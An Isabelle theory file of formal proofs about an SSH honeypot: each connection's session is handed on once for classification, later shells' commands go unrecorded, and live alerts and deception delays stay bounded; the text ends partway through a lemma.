(* ===== verification/SshProps.thy ===== *)
theory SshProps
  imports SshServer HandlerProps
begin

text \<open>
  What holds of an SSH connection whatever asyncssh, the client and the clock do to it: its session is
  handed on exactly once, with a record the schema accepts; what later shells of the same connection
  do is in no record; live results raise at most three alerts a shell.
\<close>

section \<open>The session before it is finalized\<close>

definition ses_fresh :: "ssh_env \<Rightarrow> str \<Rightarrow> persona \<Rightarrow> rat \<Rightarrow> session \<Rightarrow> bool" where
  "ses_fresh e sid prs T s \<longleftrightarrow>
     log_consistent s \<and> last_active s \<le> T \<and> decoys_from prs s \<and> end_time s = None \<and> session_id s = sid
     \<and> ses_persona s = prs \<and> origin_ok (le_ip_ok (se_log e)) (le_uuid_ok (se_log e)) s"

lemma ses_fresh_later: "ses_fresh e sid prs T s \<Longrightarrow> T \<le> T' \<Longrightarrow> ses_fresh e sid prs T' s"
  by (auto simp: ses_fresh_def)

lemma log_command_origin [simp]:
  "session_id (log_command now c s) = session_id s" "origin_ok ip_ok uuid_ok (log_command now c s) = origin_ok ip_ok uuid_ok s"
  by (simp_all add: log_command_def origin_ok_def)

lemma ses_fresh_log_given:
  assumes "ses_fresh e sid prs T s" "T \<le> now" "label \<noteq> []"
  shows "ses_fresh e sid prs now (log_given now label val s)"
  using assms by (auto simp: ses_fresh_def log_given_def log_consistent_log_command decoys_log_command)

lemma ses_fresh_version:
  "ses_fresh e sid prs T s \<Longrightarrow> length v \<le> 255 \<Longrightarrow> ses_fresh e sid prs T (s\<lparr>client_version := Some v\<rparr>)"
  by (auto simp: ses_fresh_def log_consistent_def decoys_from_def origin_ok_def)

lemma ses_fresh_stage:
  "ses_fresh e sid prs T s \<Longrightarrow> stage \<in> set ssh_end_stages \<Longrightarrow> ses_fresh e sid prs T (s\<lparr>end_stage := Some stage\<rparr>)"
  by (auto simp: ses_fresh_def log_consistent_def decoys_from_def origin_ok_def)

lemma ses_fresh_error:
  "ses_fresh e sid prs T s \<Longrightarrow> opt_all (\<lambda>v. length v \<le> 1000) detail \<Longrightarrow> ses_fresh e sid prs T (s\<lparr>end_error := detail\<rparr>)"
  by (auto simp: ses_fresh_def log_consistent_def decoys_from_def origin_ok_def)

lemma ses_fresh_process:
  assumes "ses_fresh e sid prs T s" "T \<le> now" "persona_ok prs"
  shows "ses_fresh e sid prs now (snd (process en now raw s))"
proof -
  have s: "log_consistent s" "last_active s \<le> now" "decoys_from prs s" using assms by (auto simp: ses_fresh_def)
  have frame: "session_id (snd (process en now raw s)) = session_id s" "peer (snd (process en now raw s)) = peer s"
    "ses_persona (snd (process en now raw s)) = ses_persona s" "client_version (snd (process en now raw s)) = client_version s"
    "end_stage (snd (process en now raw s)) = end_stage s" "end_error (snd (process en now raw s)) = end_error s"
    "end_time (snd (process en now raw s)) = end_time s"
    using visit_frame [of en "[(now, raw)]" s] by simp_all
  have "decoys_from prs (snd (process en now raw s))"
    by (intro provenance.I_process decoys_log_command s(3))
  then show ?thesis
    using assms(1) log_consistent_process [OF s assms(3), of en raw] frame
    by (auto simp: ses_fresh_def origin_ok_def)
qed

lemma ses_fresh_finalize:
  assumes "ses_fresh e sid prs T s" "T \<le> now" "reason \<in> set end_reasons"
  shows "\<exists>r. validated_record (se_log e) (to_record (finalize now reason s)) = Some r \<and> rec_session_id r = sid
    \<and> rec_persona_id r = persona_id prs \<and> rec_commands r = commands s"
proof -
  have "\<exists>r. to_record (finalize now reason s) = Done r
      \<and> model_validate (le_ip_ok (se_log e)) (le_uuid_ok (se_log e)) r = Done r"
    using assms by (intro to_record_validates) (auto simp: ses_fresh_def)
  then obtain r where r: "to_record (finalize now reason s) = Done r"
    "model_validate (le_ip_ok (se_log e)) (le_uuid_ok (se_log e)) r = Done r" by blast
  moreover have "rec_session_id r = sid" "rec_persona_id r = persona_id prs" "rec_commands r = commands s"
    using r(1) assms(1) by (auto simp: to_record_def finalize_def ses_fresh_def Let_def)
  ultimately show ?thesis by (simp add: validated_record_def)
qed

section \<open>The connection before its session is finalized\<close>

definition con_fresh :: "ssh_env \<Rightarrow> str \<Rightarrow> persona \<Rightarrow> rat \<Rightarrow> ssh_connection \<Rightarrow> bool" where
  "con_fresh e sid prs T c \<longleftrightarrow>
     \<not> sc_finalized c \<and> sc_end_reason c \<in> set end_reasons
     \<and> (\<exists>s. sc_session c = Some s \<and> ses_fresh e sid prs T s)"

lemma con_fresh_later: "con_fresh e sid prs T c \<Longrightarrow> T \<le> T' \<Longrightarrow> con_fresh e sid prs T' c"
  using ses_fresh_later by (auto simp: con_fresh_def)

lemma con_fresh_cong:
  "con_fresh e sid prs T c \<Longrightarrow> sc_finalized c' = sc_finalized c \<Longrightarrow> sc_end_reason c' = sc_end_reason c
    \<Longrightarrow> sc_session c' = sc_session c \<Longrightarrow> con_fresh e sid prs T c'"
  by (simp add: con_fresh_def)

lemma con_fresh_map_session:
  "con_fresh e sid prs T c \<Longrightarrow> (\<And>s. ses_fresh e sid prs T s \<Longrightarrow> ses_fresh e sid prs T' (f s))
    \<Longrightarrow> con_fresh e sid prs T' (map_session f c)"
  by (auto simp: con_fresh_def map_session_def)

lemma map_shell_frame [simp]:
  "sc_session (map_shell i f c) = sc_session c" "sc_finalized (map_shell i f c) = sc_finalized c"
  "sc_end_reason (map_shell i f c) = sc_end_reason c"
  by (simp_all add: map_shell_def)

lemma con_fresh_map_shell [simp]: "con_fresh e sid prs T (map_shell i f c) = con_fresh e sid prs T c"
  by (simp add: con_fresh_def)

lemma con_fresh_shell_writes [simp]: "con_fresh e sid prs T (shell_writes i out c) = con_fresh e sid prs T c"
  by (simp add: shell_writes_def)

lemma printable_text_length: "length (printable_text wide n text) \<le> n"
  by (simp add: printable_text_def)

lemma con_fresh_version: "con_fresh e sid prs T c \<Longrightarrow> con_fresh e sid prs T (record_client_version wide c)"
  using printable_text_length [of wide 255]
  by (auto simp: record_client_version_def CLIENT_VERSION_LIMIT_def split: option.split list.split
      intro!: con_fresh_map_session ses_fresh_version)

lemma con_fresh_shell_session: "con_fresh e sid prs T c \<Longrightarrow> con_fresh e sid prs T (shell_session e c)"
  unfolding shell_session_def
  by (intro con_fresh_version con_fresh_map_session ses_fresh_stage) (simp_all add: ssh_end_stages_def)

lemma con_fresh_start_shell: "con_fresh e sid prs T c \<Longrightarrow> start_shell e c = Some c' \<Longrightarrow> con_fresh e sid prs T c'"
  by (auto simp: start_shell_def split: outcome.splits intro: con_fresh_cong [OF con_fresh_shell_session])

lemma con_fresh_engine:
  assumes "con_fresh e sid prs T c" "T \<le> now" "persona_ok prs" "engine_process e now raw c = (reply, c')"
  shows "con_fresh e sid prs now c'"
proof -
  obtain s where s: "sc_session c = Some s" "ses_fresh e sid prs T s" using assms(1) by (auto simp: con_fresh_def)
  have "c' = c\<lparr>sc_session := Some (snd (process (se_engine e) now raw s))\<rparr>"
    using assms(4) s(1) by (auto simp: engine_process_def split: prod.splits)
  then show ?thesis using assms(1) ses_fresh_process [OF s(2) assms(2,3), of "se_engine e" raw]
    by (auto simp: con_fresh_def)
qed

lemma stage_at_close_known: "stage_at_close cause c s \<in> set ssh_end_stages"
  by (auto simp: stage_at_close_def ssh_end_stages_def split: option.split close_cause.split)

lemma close_detail_short: "opt_all (\<lambda>v. length v \<le> 1000) (close_detail wide cause algs)"
  using printable_text_length [of wide 1000] by (auto simp: close_detail_def END_ERROR_LIMIT_def Let_def split: option.split)

lemma con_fresh_failed_login:
  assumes "con_fresh e sid prs T c" shows "con_fresh e sid prs T (note_failed_login e cause c)"
proof -
  have "con_fresh e sid prs T (map_session (\<lambda>s. s\<lparr>end_stage := Some (stage_at_close cause c1 s),
      end_error := close_detail (se_wide e) cause (sc_client_algs c1)\<rparr>) (record_client_version (se_wide e) c))" for c1
    by (intro con_fresh_map_session [OF con_fresh_version [OF assms]] ses_fresh_error ses_fresh_stage
        stage_at_close_known close_detail_short)
  then show ?thesis using assms by (auto simp: note_failed_login_def Let_def split: option.split)
qed

lemma end_reason_at_close_known:
  "sc_end_reason c \<in> set end_reasons \<Longrightarrow> end_reason_at_close cause c \<in> set end_reasons"
  by (auto simp: end_reason_at_close_def end_reasons_def split: option.split close_cause.split)

section \<open>Once finalized\<close>

text \<open>The queue holds one record more than before, of this session.\<close>

definition handed_on :: "ssh_env \<Rightarrow> str \<Rightarrow> persona \<Rightarrow> session_log \<Rightarrow> session_log \<Rightarrow> bool" where
  "handed_on e sid prs lg0 lg \<longleftrightarrow>
     (\<exists>r later. model_validate (le_ip_ok (se_log e)) (le_uuid_ok (se_log e)) r = Done r \<and> rec_session_id r = sid
        \<and> rec_persona_id r = persona_id prs \<and> lg_queue lg = schedule_auto_classification later r (lg_queue lg0))"

definition ssh_once :: "ssh_env \<Rightarrow> str \<Rightarrow> persona \<Rightarrow> session_log \<Rightarrow> rat \<Rightarrow> ssh_connection \<times> session_log \<Rightarrow> bool" where
  "ssh_once e sid prs lg0 T cl \<longleftrightarrow>
     (con_fresh e sid prs T (fst cl) \<and> snd cl = lg0) \<or> (sc_finalized (fst cl) \<and> handed_on e sid prs lg0 (snd cl))"

lemma ssh_once_fresh: "con_fresh e sid prs T c \<Longrightarrow> ssh_once e sid prs lg0 T (c, lg0)"
  by (simp add: ssh_once_def)

lemma ssh_once_done: "sc_finalized c \<Longrightarrow> handed_on e sid prs lg0 lg \<Longrightarrow> ssh_once e sid prs lg0 T (c, lg)"
  by (simp add: ssh_once_def)

lemma finalize_fresh:
  assumes "con_fresh e sid prs T c" "T \<le> ec_ended t" "reason \<in> set end_reasons"
  shows "sc_finalized (fst (finalize_once e t reason (c, lg0)))
    \<and> handed_on e sid prs lg0 (snd (finalize_once e t reason (c, lg0)))"
proof -
  obtain s where s: "sc_session c = Some s" "\<not> sc_finalized c" "ses_fresh e sid prs T s"
    using assms(1) by (auto simp: con_fresh_def)
  obtain r where r: "validated_record (se_log e) (to_record (finalize (ec_ended t) reason s)) = Some r"
    "rec_session_id r = sid" "rec_persona_id r = persona_id prs"
    using ses_fresh_finalize [OF s(3) assms(2,3)] by blast
  have "model_validate (le_ip_ok (se_log e)) (le_uuid_ok (se_log e)) r = Done r"
    using r(1) by (auto simp: validated_record_def model_validate_iff split: outcome.splits)
  then show ?thesis
    using s(1,2) r(2,3) scheduled_once [OF r(1)] by (auto simp: finalize_once_def handed_on_def Let_def)
qed

lemma finalized_stays:
  "sc_finalized c \<Longrightarrow> finalize_once e t reason (c, lg) = (c, lg)"
  by (simp add: finalize_once_def split: option.split)

lemma finalized_frame [simp]:
  "sc_finalized (map_session f c) = sc_finalized c"
  "sc_finalized (record_client_version wide c) = sc_finalized c"
  "sc_finalized (shell_writes i out c) = sc_finalized c"
  "sc_finalized (note_failed_login e cause c) = sc_finalized c"
  "sc_finalized (shell_session e c) = sc_finalized c"
  "sc_finalized (snd (engine_process e now raw c)) = sc_finalized c"
  by (simp_all add: map_session_def record_client_version_def shell_writes_def note_failed_login_def
      shell_session_def engine_process_def Let_def split: option.split list.split prod.split)

lemma start_shell_finalized: "start_shell e c = Some c' \<Longrightarrow> sc_finalized c' = sc_finalized c"
  by (auto simp: start_shell_def split: outcome.splits)

lemma engine_finalized: "engine_process e now raw c = (reply, c') \<Longrightarrow> sc_finalized c' = sc_finalized c"
  using finalized_frame(6) [of e now raw c] by simp

lemma end_shell_finalized: "sc_finalized c \<Longrightarrow> snd (end_shell e t i reason (c, lg)) = lg \<and> sc_finalized (fst (end_shell e t i reason (c, lg)))"
  by (simp add: end_shell_def finalized_stays)

lemma answer_line_finalized:
  "sc_finalized c \<Longrightarrow> snd (answer_line e t i response (c, lg)) = lg \<and> sc_finalized (fst (answer_line e t i response (c, lg)))"
  by (simp add: answer_line_def end_shell_finalized)

lemma finalized_step:
  assumes "sc_finalized c"
  shows "snd (ssh_step e event (c, lg)) = lg \<and> sc_finalized (fst (ssh_step e event (c, lg)))"
proof (cases event)
  case (Runs_Command t now command)
  then show ?thesis using assms start_shell_finalized engine_finalized
    by (auto simp: exec_shell_def Let_def end_shell_finalized split: option.split prod.split outcome.split)
next
  case (Types_Line t i now raw)
  then show ?thesis using assms engine_finalized
    by (auto simp: shell_line_def end_shell_finalized answer_line_finalized split: prod.split outcome.split)
next
  case (Opens_Shell last_login net host)
  then show ?thesis using assms start_shell_finalized
    by (auto simp: open_shell_def split: option.split)
qed (use assms in \<open>simp_all add: begin_auth_def validate_password_def note_client_host_key_algs_def shell_slept_def
    shell_timed_out_def shell_checked_def end_shell_finalized connection_lost_def finalized_stays Let_def
    split: option.split outcome.split\<close>)

lemma finalized_run: "sc_finalized c \<Longrightarrow> snd (ssh_run e events (c, lg)) = lg \<and> sc_finalized (fst (ssh_run e events (c, lg)))"
proof (induction events arbitrary: c)
  case (Cons event events)
  obtain c' where "ssh_step e event (c, lg) = (c', lg)" "sc_finalized c'"
    using finalized_step [OF Cons.prems, of e event lg] by (cases "ssh_step e event (c, lg)") auto
  then show ?case using Cons.IH [of c'] by (simp add: ssh_run_def)
qed (simp add: ssh_run_def)

section \<open>Every connection is handed on once\<close>

text \<open>The readings of the wall clock that reach the session, in the order they are made.\<close>

fun event_times :: "ssh_event \<Rightarrow> rat list" where
  "event_times (Sends_Password t1 t2 user password) = [t1, t2]"
| "event_times (Runs_Command t now command) = [now, ec_ended t]"
| "event_times (Types_Line t i now raw) = [now, ec_ended t]"
| "event_times (Stays_Silent t i) = [ec_ended t]"
| "event_times (Shell_Cancelled t i) = [ec_ended t]"
| "event_times (Shell_Fails t i) = [ec_ended t]"
| "event_times (Lost t cause) = [ec_ended t]"
| "event_times _ = []"

lemma end_shell_once:
  assumes "con_fresh e sid prs T c" "T \<le> ec_ended t" "reason \<in> set end_reasons"
  shows "ssh_once e sid prs lg0 T' (end_shell e t i reason (c, lg0))"
proof -
  have "con_fresh e sid prs T (map_shell i f (c\<lparr>sc_end_reason := reason\<rparr>))" for f
    using assms(1,3) by (simp add: con_fresh_def)
  from finalize_fresh [OF this assms(2,3)] show ?thesis by (simp add: end_shell_def ssh_once_def)
qed

lemma reasons_known [simp]:
  "lit ''logout'' \<in> set end_reasons" "lit ''timeout'' \<in> set end_reasons" "lit ''disconnect'' \<in> set end_reasons"
  "lit ''shutdown'' \<in> set end_reasons" "lit ''error'' \<in> set end_reasons"
  by (simp_all add: end_reasons_def)

lemma answer_line_once:
  assumes "con_fresh e sid prs T c" "T \<le> ec_ended t"
  shows "ssh_once e sid prs lg0 (ec_ended t) (answer_line e t i response (c, lg0))"
  using assms con_fresh_later [OF assms]
  by (auto simp: answer_line_def intro!: ssh_once_fresh end_shell_once)

lemma shell_line_once:
  assumes "con_fresh e sid prs T c" "T \<le> now" "now \<le> ec_ended t" "persona_ok prs"
  shows "ssh_once e sid prs lg0 (ec_ended t) (shell_line e t i now raw (c, lg0))"
proof (cases "raw = []")
  case True
  then show ?thesis using end_shell_once [OF assms(1)] assms(2,3) by (simp add: shell_line_def)
next
  case False
  let ?raw = "rstrip_if (\<lambda>c. c = carriage \<or> c = newline) raw"
  obtain reply c' where run: "engine_process e now ?raw c = (reply, c')" by force
  have "con_fresh e sid prs now c'" by (rule con_fresh_engine [OF assms(1,2,4) run])
  then show ?thesis using False run assms(3)
    by (cases reply) (auto simp: shell_line_def intro: end_shell_once answer_line_once)
qed

lemma exec_shell_once:
  assumes "con_fresh e sid prs T c" "T \<le> now" "now \<le> ec_ended t" "persona_ok prs"
  shows "ssh_once e sid prs lg0 (ec_ended t) (exec_shell e t now command (c, lg0))"
proof (cases "start_shell e c")
  case None
  then show ?thesis using con_fresh_later [OF con_fresh_shell_session [OF assms(1)]] assms(2,3)
    by (simp add: exec_shell_def ssh_once_def)
next
  case (Some c1)
  obtain reply c' where run: "engine_process e now command c1 = (reply, c')" by force
  have "con_fresh e sid prs now c'"
    by (rule con_fresh_engine [OF con_fresh_start_shell [OF assms(1) Some] assms(2,4) run])
  then show ?thesis using Some run assms(3)
    by (cases reply) (auto simp: exec_shell_def Let_def intro: end_shell_once)
qed

lemma fresh_step:
  assumes "con_fresh e sid prs T c" "sorted (T # event_times event)" "persona_ok prs"
  shows "ssh_once e sid prs lg0 (List.last (T # event_times event)) (ssh_step e event (c, lg0))"
proof (cases event)
  case (Sends_Password t1 t2 user password)
  then have times: "T \<le> t1" "t1 \<le> t2" using assms(2) by auto
  have label: "lit ''login: '' \<noteq> []" "lit ''password: '' \<noteq> []" by simp_all
  have "con_fresh e sid prs t2 (validate_password t1 t2 user password c)"
    unfolding validate_password_def comp_def
    by (intro con_fresh_map_session [OF con_fresh_cong [OF assms(1)]])
      (simp_all add: ses_fresh_log_given [OF ses_fresh_log_given [OF _ times(1) label(1)] times(2) label(2)])
  then show ?thesis using Sends_Password by (simp add: ssh_once_fresh)
next
  case (Opens_Shell last_login net host)
  have "con_fresh e sid prs T (open_shell e last_login net host c)"
    using con_fresh_shell_session [OF assms(1)] con_fresh_start_shell [OF assms(1)]
    by (auto simp: open_shell_def split: option.split)
  then show ?thesis using Opens_Shell by (simp add: ssh_once_fresh)
next
  case (Runs_Command t now command)
  then show ?thesis using assms exec_shell_once by simp
next
  case (Types_Line t i now raw)
  then show ?thesis using assms shell_line_once [OF assms(1)] con_fresh_later [OF assms(1)]
    by (auto simp: ssh_once_fresh)
next
  case (Lost t cause)
  have "T \<le> ec_ended t" using assms(2) Lost by simp
  note fresh = con_fresh_failed_login [OF assms(1), of cause]
  then have "end_reason_at_close cause (note_failed_login e cause c) \<in> set end_reasons"
    by (simp add: con_fresh_def end_reason_at_close_known)
  from finalize_fresh [OF fresh \<open>T \<le> ec_ended t\<close> this, of lg0] show ?thesis
    using Lost by (simp add: connection_lost_def Let_def ssh_once_def)
next
  case (Stays_Silent t i)
  then show ?thesis using assms con_fresh_later [OF assms(1)] end_shell_once [of e sid prs T]
    by (simp add: shell_timed_out_def ssh_once_fresh)
next
  case (Shell_Cancelled t i)
  then show ?thesis using assms con_fresh_later [OF assms(1)] end_shell_once [OF assms(1)]
    by (simp add: ssh_once_fresh)
next
  case (Shell_Fails t i)
  then show ?thesis using assms con_fresh_later [OF assms(1)] end_shell_once [OF assms(1)]
    by (simp add: ssh_once_fresh)
qed (use assms(1) con_fresh_version con_fresh_cong [OF assms(1)] in \<open>auto simp: begin_auth_def note_client_host_key_algs_def
    shell_slept_def shell_checked_def intro!: ssh_once_fresh split: option.split outcome.split\<close>)

lemma once_step:
  assumes "ssh_once e sid prs lg0 T cl" "sorted (T # event_times event)" "persona_ok prs"
  shows "ssh_once e sid prs lg0 (List.last (T # event_times event)) (ssh_step e event cl)"
proof (cases "sc_finalized (fst cl)")
  case True
  then have "snd (ssh_step e event cl) = snd cl \<and> sc_finalized (fst (ssh_step e event cl))"
    using finalized_step [of "fst cl" e event "snd cl"] by simp
  then show ?thesis using assms(1) True by (auto simp: ssh_once_def con_fresh_def)
next
  case False
  then have "con_fresh e sid prs T (fst cl)" "snd cl = lg0" using assms(1) by (auto simp: ssh_once_def)
  then show ?thesis using fresh_step [OF _ assms(2,3), of e sid "fst cl" lg0] by (cases cl) simp
qed

lemma sorted_split: "sorted (t # xs @ ys) \<Longrightarrow> sorted (t # xs) \<and> sorted (List.last (t # xs) # ys)"
  by (induction xs arbitrary: t) auto

lemma once_run:
  assumes "ssh_once e sid prs lg0 T cl" "sorted (T # concat (map event_times events))" "persona_ok prs"
  shows "ssh_once e sid prs lg0 (List.last (T # concat (map event_times events))) (ssh_run e events cl)"
  using assms(1,2)
proof (induction events arbitrary: T cl)
  case (Cons event events)
  have times: "sorted (T # event_times event)"
    "sorted (List.last (T # event_times event) # concat (map event_times events))"
    using sorted_split [of T "event_times event" "concat (map event_times events)"] Cons.prems(2) by simp_all
  have "List.last (T # concat (map event_times (event # events)))
      = List.last (List.last (T # event_times event) # concat (map event_times events))"
    by simp
  with Cons.IH [OF once_step [OF Cons.prems(1) times(1) assms(3)] times(2)]
  show ?case by (simp only: ssh_run_def fold_simps)
qed (simp add: ssh_run_def)

lemma lost_hands_on:
  assumes "ssh_once e sid prs lg0 T cl" "T \<le> ec_ended t"
  shows "sc_finalized (fst (ssh_step e (Lost t cause) cl)) \<and> handed_on e sid prs lg0 (snd (ssh_step e (Lost t cause) cl))"
proof (cases "sc_finalized (fst cl)")
  case True
  then have "handed_on e sid prs lg0 (snd cl)" using assms(1) by (auto simp: ssh_once_def con_fresh_def)
  then show ?thesis using finalized_step [OF True, of e "Lost t cause" "snd cl"] by simp
next
  case False
  then have fresh: "con_fresh e sid prs T (fst cl)" "snd cl = lg0" using assms(1) by (auto simp: ssh_once_def)
  have "end_reason_at_close cause (note_failed_login e cause (fst cl)) \<in> set end_reasons"
    using con_fresh_failed_login [OF fresh(1), of cause] by (simp add: con_fresh_def end_reason_at_close_known)
  from finalize_fresh [OF con_fresh_failed_login [OF fresh(1)] assms(2) this] show ?thesis
    using fresh(2) by (cases cl) (simp add: connection_lost_def Let_def)
qed

text \<open>C5: Every admitted SSH connection is handed on for classification exactly once: whatever the client
  and its shells do and in whatever order, once the connection is lost the queue holds one record of
  its session more, which the schema accepts, provided the wall clock does not go back.\<close>

theorem ssh_handed_on_once:
  assumes "validate_persona prs = Done ()" "origin_ok (le_ip_ok (se_log e)) (le_uuid_ok (se_log e)) (new_session sid start p prs)"
    and "sorted (start # concat (map event_times (events @ [Lost t cause])))"
  shows "handed_on e sid prs lg
    (snd (ssh_run e (events @ Lost t cause # others) (connection_made True sid start p prs applied, lg)))"
proof -
  have ok: "persona_ok prs" using assms(1) by (simp add: validate_persona_iff)
  let ?c = "connection_made True sid start p prs applied"
  have "ses_fresh e sid prs start (new_session sid start p prs)"
    using assms(2) log_consistent_new decoys_new by (simp add: ses_fresh_def) (simp add: new_session_def)
  then have "ssh_once e sid prs lg start (?c, lg)"
    by (intro ssh_once_fresh) (simp add: con_fresh_def connection_made_def new_ssh_server_def)
  moreover have times: "sorted (start # concat (map event_times events) @ [ec_ended t])" using assms(3) by simp
  note split = sorted_split [OF times]
  ultimately have "ssh_once e sid prs lg (List.last (start # concat (map event_times events))) (ssh_run e events (?c, lg))"
    using once_run [OF _ _ ok] by blast
  from lost_hands_on [OF this, of t cause] split obtain c1 lg1 where
    lost: "ssh_step e (Lost t cause) (ssh_run e events (?c, lg)) = (c1, lg1)" "sc_finalized c1" "handed_on e sid prs lg lg1"
    by (cases "ssh_step e (Lost t cause) (ssh_run e events (?c, lg))") auto
  have "ssh_run e (events @ Lost t cause # others) (?c, lg) = ssh_run e others (c1, lg1)"
    using lost(1) by (simp add: ssh_run_def)
  then show ?thesis using finalized_run [OF lost(2), of e others lg1] lost(3) by simp
qed

section \<open>Later shells\<close>

lemma session_kept [simp]:
  "sc_session (record_client_version wide c) = None \<longleftrightarrow> sc_session c = None"
  "sc_session (shell_session e c) = None \<longleftrightarrow> sc_session c = None"
  by (simp_all add: shell_session_def record_client_version_def map_session_def split: option.split list.split)

lemma end_shell_session:
  assumes "sc_session c = Some s"
  shows "sc_finalized (fst (end_shell e t i reason (c, lg)))
    \<and> (\<exists>s'. sc_session (fst (end_shell e t i reason (c, lg))) = Some s' \<and> commands s' = commands s)"
  using assms by (simp add: end_shell_def finalize_once_def finalize_def Let_def)

lemma exec_finalizes:
  assumes "sc_session c = Some s" "se_live_rules e = Done live"
  shows "sc_finalized (fst (exec_shell e t now command (c, lg)))
    \<and> (\<exists>s'. sc_session (fst (exec_shell e t now command (c, lg))) = Some s' \<and> (strip command \<noteq> [] \<longrightarrow>
        \<lparr>ev_cmd = loggable (strip command), ev_time = now\<rparr> \<in> set (commands s')))"
proof -
  obtain c1 s1 where c1: "start_shell e c = Some c1" "sc_session c1 = Some s1"
    using assms session_kept(2) [of e c] by (cases "sc_session (shell_session e c)") (auto simp: start_shell_def)
  obtain reply c2 where run: "engine_process e now command c1 = (reply, c2)" by force
  let ?s2 = "snd (process (se_engine e) now command s1)"
  have s2: "sc_session c2 = Some ?s2" "sc_session (shell_writes k out c2) = Some ?s2" for k out
    using run c1(2) by (auto simp: engine_process_def shell_writes_def split: prod.splits)
  have logged: "strip command \<noteq> [] \<longrightarrow> \<lparr>ev_cmd = loggable (strip command), ev_time = now\<rparr> \<in> set (commands ?s2)"
    by (simp add: process_commands logged_def)
  show ?thesis
  proof (cases reply)
    case (Done response)
    then show ?thesis using c1(1) run logged
        end_shell_session [OF s2(2), of e t "length (sc_shells c)" "lit ''disconnect''" "length (sc_shells c)" "bare_answer c2 response" lg]
      by (auto simp: exec_shell_def Let_def)
  next
    case (Raised x)
    then show ?thesis using c1(1) run logged end_shell_session [OF s2(1), of e t "length (sc_shells c)" "lit ''error''" lg]
      by (auto simp: exec_shell_def Let_def)
  qed
qed

text \<open>C7: A client that runs a second command on its connection (as \<open>exec_command\<close> of common SSH libraries
  does, one channel each) leaves no trace of it: the first shell to end has the session logged and
  handed on, the second command is answered and noted in a session nobody reads again.\<close>

theorem second_command_unrecorded:
  assumes "sc_session c = Some s" "se_live_rules e = Done live" "strip second \<noteq> []"
    and "ssh_run e [Runs_Command t1 n1 first_command] (c, lg) = (c1, lg1)"
    and "ssh_run e (Runs_Command t2 n2 second # others) (c1, lg1) = (c2, lg2)"
  shows "lg2 = lg1
    \<and> (\<exists>s'. sc_session (fst (exec_shell e t2 n2 second (c1, lg1))) = Some s'
           \<and> \<lparr>ev_cmd = loggable (strip second), ev_time = n2\<rparr> \<in> set (commands s'))"
proof (rule conjI)
  have "c1 = fst (exec_shell e t1 n1 first_command (c, lg))" using assms(4) by (simp add: ssh_run_def)
  with exec_finalizes [OF assms(1,2), of t1 n1 first_command lg]
  obtain s1 where c1: "sc_finalized c1" "sc_session c1 = Some s1" by auto
  show "lg2 = lg1" using finalized_run [OF c1(1), of e "Runs_Command t2 n2 second # others" lg1] assms(5) by simp
  show "\<exists>s'. sc_session (fst (exec_shell e t2 n2 second (c1, lg1))) = Some s'
           \<and> \<lparr>ev_cmd = loggable (strip second), ev_time = n2\<rparr> \<in> set (commands s')"
    using exec_finalizes [OF c1(2) assms(2), of t2 n2 second lg1] assms(3) by auto
qed

section \<open>Live results\<close>

definition live_ok :: "live_state \<Rightarrow> bool" where
  "live_ok lv \<longleftrightarrow>
     (let ranks = map (\<lambda>a. risk_rank (sum_risk_level (snd a))) (lv_alerts lv) in
      sorted_wrt (<) ranks \<and> set ranks \<subseteq> {2, 3, 4} \<and> lv_rank lv = (if ranks = [] then -1 else int (List.last ranks)))
     \<and> 0 \<le> lv_delay lv \<and> lv_delay lv \<le> 2"

lemma risk_rank_le: "risk_rank r \<le> 4" by (cases r) simp_all

lemma classified_actions:
  assumes "classify_session rs r n active = Done summary"
  shows "sum_alert_action summary \<noteq> None \<Longrightarrow> 2 \<le> risk_rank (sum_risk_level summary)"
    and "sum_deception_action summary = Some a \<Longrightarrow> 0 \<le> delay_seconds a \<and> delay_seconds a \<le> 2"
proof -
  have alert: "alert_action_for level ev = Some y \<Longrightarrow> 2 \<le> risk_rank level" for level ev y
    by (cases level) (simp_all add: alert_action_for_def)
  then show "sum_alert_action summary \<noteq> None \<Longrightarrow> 2 \<le> risk_rank (sum_risk_level summary)"
    using assms by (auto simp: classify_session_def summarize_rule_evaluation_def Let_def split: outcome.splits if_splits dest: alert)
  have "deception_action_for level = Some a \<Longrightarrow> 0 \<le> delay_seconds a \<and> delay_seconds a \<le> 2" for level
    by (cases level) (auto simp: deception_action_for_def)
  then show "sum_deception_action summary = Some a \<Longrightarrow> 0 \<le> delay_seconds a \<and> delay_seconds a \<le> 2"
    using assms by (auto simp: classify_session_def summarize_rule_evaluation_def Let_def split: outcome.splits if_splits)
qed

lemma sorted_wrt_snoc: "sorted_wrt (<) xs \<Longrightarrow> (xs \<noteq> [] \<Longrightarrow> List.last xs < x) \<Longrightarrow> sorted_wrt (<) (xs @ [x :: nat])"
proof (induction xs)
  case (Cons y ys)
  then show ?case by (cases "ys = []") (auto, metis last_in_set order.strict_trans)
qed simp

lemma live_ok_slow_down:
  assumes "live_ok lv" "\<And>a. sum_deception_action summary = Some a \<Longrightarrow> 0 \<le> delay_seconds a \<and> delay_seconds a \<le> 2"
  shows "live_ok (slow_down summary lv)"
  using assms by (auto simp: slow_down_def live_ok_def Let_def split: option.split)

lemma live_ok_check:
  assumes "live_ok lv" shows "live_ok (live_check ip_ok uuid_ok live now later s lv)"
proof (cases "live_summary ip_ok uuid_ok live now s")
  case (Some summary)
  then obtain r where r: "classify_session live r None True = Done summary"
    by (auto simp: live_summary_def split: outcome.splits)
  let ?lv = "slow_down summary lv" and ?rank = "risk_rank (sum_risk_level summary)"
  let ?ranks = "map (\<lambda>a. risk_rank (sum_risk_level (snd a))) (lv_alerts ?lv)"
  have ok: "live_ok ?lv" using live_ok_slow_down [OF assms] classified_actions(2) [OF r] by blast
  have "live_ok (?lv\<lparr>lv_rank := int ?rank, lv_alerts := lv_alerts ?lv @ [(active_record later s, summary)]\<rparr>)"
    if "sum_alert_action summary \<noteq> None" "lv_rank ?lv < int ?rank"
  proof -
    have "2 \<le> ?rank" by (rule classified_actions(1) [OF r that(1)])
    then have "?rank \<in> {2, 3, 4}" using risk_rank_le [of "sum_risk_level summary"] by auto
    moreover have "sorted_wrt (<) (?ranks @ [?rank])"
      using ok that(2) by (intro sorted_wrt_snoc) (auto simp: live_ok_def Let_def)
    ultimately show ?thesis using ok by (auto simp: live_ok_def Let_def)
  qed
  then show ?thesis using Some ok by (auto simp: live_check_def handle_live_classification_def Let_def)
qed (simp add: live_check_def assms)

definition shells_ok :: "ssh_connection \<Rightarrow> bool" where
  "shells_ok c \<longleftrightarrow> list_all (\<lambda>sh. live_ok (sh_live sh)) (sc_shells c)"

lemma shells_ok_map_shell:
